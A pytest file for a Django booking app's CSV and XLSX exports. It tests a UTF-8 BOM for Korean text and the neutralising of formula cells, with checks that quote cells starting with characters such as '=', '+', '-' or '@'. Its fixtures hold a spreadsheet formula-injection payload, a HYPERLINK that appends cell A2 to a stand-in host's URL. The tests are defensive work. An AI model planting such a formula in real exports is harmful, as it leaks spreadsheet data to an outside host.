"""CSV and XLSX that people open in Excel: a BOM for Korean text, formula cells neutralised.

Covers every writer: the API's renderers (bookings list, usage, utilisation) and the admin's
django-import-export formats. The API and admin tests read the files the way a person's
spreadsheet would, and import nothing from testbed.spreadsheets.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from booking.api.reports import CSVRenderer, XLSXRenderer
from equipment.admin import EquipmentTypeResource
from equipment.models import EquipmentType
from testbed.spreadsheets import FORMULA_TRIGGERS, restore_cell, safe_cell
from tests.factories import EquipmentTypeFactory, EquipmentUnitFactory, aware

BOM = b"\xef\xbb\xbf"
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A2,"열기")'
KOREAN = "수면 연구 (야간)"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def load_sheet(content: bytes):
    # Not read-only: only the full reader keeps each cell's data_type.
    return openpyxl.load_workbook(io.BytesIO(content)).active


# --- the rule ------------------------------------------------------------------------------------


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_it_quotes_text_that_a_spreadsheet_would_run(first):
    assert safe_cell(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, Decimal("-1.5"), 0, None, True, KOREAN, "a=b", "", "'quoted", "1-2"],
)
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert safe_cell(value) is value


def test_it_quotes_a_negative_number_written_as_text():
    assert safe_cell("-5") == "'-5"


@given(st.text())
def test_restore_cell_undoes_safe_cell_for_any_text(text):
    safe = safe_cell(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert restore_cell(safe) == text


# --- the renderers (bookings list, usage, utilisation) --------------------------------------------

TABLE = {
    "title": "usage",
    "columns": ["organization_name", "purpose", "charge_krw", "booked_hours", "note"],
    "rows": [
        {
            "organization_name": "가나다 연구소",
            "purpose": HYPERLINK,
            "charge_krw": -5000,
            "booked_hours": 1.5,
            "note": None,
        },
        {
            "organization_name": "@lab",
            "purpose": "-5",
            "charge_krw": 0,
            "booked_hours": -0.5,
            "note": "#N/A",
        },
    ],
}


def test_the_csv_renderer_writes_utf8_sig_and_neutralises_formulas():
    content = CSVRenderer().render(TABLE)

    assert content.startswith(BOM) and content.count(BOM) == 1
    header, first, second = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert header == TABLE["columns"]
    assert first == ["가나다 연구소", "'" + HYPERLINK, "-5000", "1.5", ""]
    assert second == ["'@lab", "'-5", "0", "-0.5", "#N/A"]


def test_the_xlsx_renderer_writes_text_cells_and_keeps_numbers():
    sheet = load_sheet(XLSXRenderer().render(TABLE))

    name, purpose, charge, hours, note = sheet[2]
    assert (purpose.value, purpose.data_type) == ("'" + HYPERLINK, "s")
    assert (name.value, charge.value, hours.value) == ("가나다 연구소", -5000, 1.5)
    assert charge.data_type == hours.data_type == "n"
    assert note.value is None
    name, purpose, charge, hours, note = sheet[3]
    assert [name.value, purpose.value, hours.value] == ["'@lab", "'-5", -0.5]
    assert (note.value, note.data_type) == ("#N/A", "s"), "text, not an Excel error value"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_renderers_leave_errors_as_json():
    problem = {"title": "Bad", "status": 400}
    assert not CSVRenderer().render(problem).startswith(BOM)
    assert XLSXRenderer().render(problem).startswith(b"{")


# --- through the API -----------------------------------------------------------------------------


@pytest.fixture
def lab(db):
    with time_machine.travel(aware(2026, 12, 1, 8, 0), tick=False):
        t = EquipmentTypeFactory(
            code="HC-PSG", opens_at=dt.time(9), closes_at=dt.time(18), max_minutes=120
        )
        EquipmentUnitFactory(equipment_type=t, code="HC-PSG-01")
        yield t


def book(client, hour: int, purpose: str) -> None:
    body = {
        "resource": "HC-PSG",
        "quantity": 1,
        "start": f"2026-12-02T{hour:02d}:00:00+09:00",
        "end": f"2026-12-02T{hour + 1:02d}:00:00+09:00",
        "purpose": purpose,
    }
    response = client.post("/api/v1/bookings", body, format="json")
    assert response.status_code == 201, response.content


@pytest.fixture
def booked(api, member, lab):
    client = api(member)
    for hour, purpose in [(10, HYPERLINK), (12, KOREAN), (14, "-5"), (16, "+82 10 1234")]:
        book(client, hour, purpose)
    return client


def test_it_exports_bookings_as_csv_excel_reads_as_korean(booked):
    response = booked.get("/api/v1/bookings", {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM) and response.content.count(BOM) == 1
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_start = {row["start"][11:13]: row for row in rows}
    assert by_start["12"]["purpose"] == KOREAN
    assert by_start["10"]["purpose"] == "'" + HYPERLINK
    assert by_start["14"]["purpose"] == "'-5"
    assert by_start["16"]["purpose"] == "'+82 10 1234"
    assert {row["quantity"] for row in rows} == {"1"}, "numbers are not quoted"


def test_it_exports_bookings_as_xlsx_without_formula_cells(booked):
    response = booked.get("/api/v1/bookings", {"format": "xlsx"})

    assert response.status_code == 200 and response["Content-Type"].startswith(XLSX)
    sheet = load_sheet(response.content)
    header = [c.value for c in sheet[1]]
    purpose = header.index("purpose")
    rows = list(sheet.iter_rows(min_row=2))
    cells = {row[purpose].value: row[purpose] for row in rows}
    assert set(cells) == {"'" + HYPERLINK, KOREAN, "'-5", "'+82 10 1234"}
    assert all(cell.data_type == "s" for cell in cells.values())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    quantity = header.index("quantity")
    assert {(row[quantity].value, row[quantity].data_type) for row in rows} == {(1, "n")}


def test_it_exports_a_purpose_with_a_control_character_as_xlsx(api, member, lab):
    client = api(member)
    book(client, 10, "벨\x07소리")

    response = client.get("/api/v1/bookings", {"format": "xlsx"})

    assert response.status_code == 200, response.content[:300]
    header, row = list(load_sheet(response.content).iter_rows(values_only=True))
    assert row[header.index("purpose")] == "벨\N{REPLACEMENT CHARACTER}소리"


def test_the_usage_report_csv_starts_with_a_bom(api, operator):
    response = api(operator).get(
        "/api/v1/usage",
        {"start": "2026-11-01T00:00:00+09:00", "end": "2026-12-01T00:00:00+09:00", "format": "csv"},
    )

    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM + b"organization,")


# --- the admin's import/export -----------------------------------------------------------------


@pytest.fixture
def hostile_type(db):
    return EquipmentTypeFactory(
        code="MRI-x", name=HYPERLINK, name_en="-MRI", description=KOREAN, slot_minutes=30
    )


def admin_export(admin_client, file_format: str):
    model_admin = admin.site._registry[EquipmentType]
    formats = [f().get_title() for f in model_admin.get_export_formats()]
    data = {"format": str(formats.index(file_format)), "resource": "0"}
    for column in EquipmentTypeResource().get_export_order():
        data[f"equipmenttyperesource_{column}"] = "on"
    response = admin_client.post(reverse("admin:equipment_equipmenttype_export"), data)
    assert response.status_code == 200
    return response


def test_the_admin_csv_export_has_a_bom_and_no_live_formulas(admin_client, hostile_type):
    response = admin_export(admin_client, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM) and response.content.count(BOM) == 1
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert (row["code"], row["name"], row["name_en"]) == ("MRI-x", "'" + HYPERLINK, "'-MRI")
    assert row["description"] == KOREAN


def test_the_admin_xlsx_export_has_text_cells_and_numbers(admin_client, hostile_type):
    response = admin_export(admin_client, "xlsx")

    sheet = load_sheet(response.content)
    header = [c.value for c in sheet[1]]
    row = {h: cell for h, cell in zip(header, sheet[2], strict=True)}
    assert (row["name"].value, row["name"].data_type) == ("'" + HYPERLINK, "s")
    assert (row["slot_minutes"].value, row["slot_minutes"].data_type) == (30, "n")
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)


def test_the_admin_offers_no_format_that_runs_formulas(admin_client):
    model_admin = admin.site._registry[EquipmentType]
    titles = {f().get_title() for f in model_admin.get_export_formats()}
    assert "html" not in titles and {"csv", "xlsx"} <= titles


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_file_imports_back_unchanged(admin_client, hostile_type, file_format):
    EquipmentTypeFactory(code="MRI-y", description="", placeholder=False)  # empty cells too
    exported = admin_export(admin_client, file_format).content
    model_admin = admin.site._registry[EquipmentType]
    formats = [f().get_title() for f in model_admin.get_import_formats()]
    upload = SimpleUploadedFile(f"types.{file_format}", exported)

    response = admin_client.post(
        reverse("admin:equipment_equipmenttype_import"),
        {"format": str(formats.index(file_format)), "resource": "0", "import_file": upload},
    )

    assert response.status_code == 200
    result = response.context["result"]
    errors = [e.error for _, row_errors in result.row_errors() for e in row_errors]
    assert not result.has_errors() and not result.has_validation_errors(), (
        errors,
        result.invalid_rows,
    )
    assert result.totals["skip"] == 2 and result.totals["update"] == 0, result.totals
